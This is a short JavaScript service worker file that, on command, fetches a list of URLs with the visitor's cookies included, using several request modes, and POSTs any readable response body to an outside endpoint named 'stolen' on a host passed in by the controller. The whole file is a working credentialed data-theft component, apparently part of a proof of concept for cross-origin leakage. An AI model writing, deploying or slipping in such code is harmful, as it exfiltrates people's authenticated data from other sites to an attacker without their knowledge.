// The worker of service_worker.js.
onmessage = async (event) => {
  for (const url of event.data.urls)
    for (const init of [{}, { mode: "no-cors" }, { mode: "no-cors", method: "POST", body: "{}" }]) {
      try {
        const answer = await fetch(url, { ...init, credentials: "include", signal: AbortSignal.timeout(300) });
        const text = answer.ok && (await answer.text());
        if (text) await fetch(`${event.data.HOME}/stolen`, { method: "POST", mode: "no-cors", body: text });
      } catch {
        // refused
      }
    }
  event.source.postMessage("done");
};
onfetch = (event) => event.respondWith(fetch(event.request));
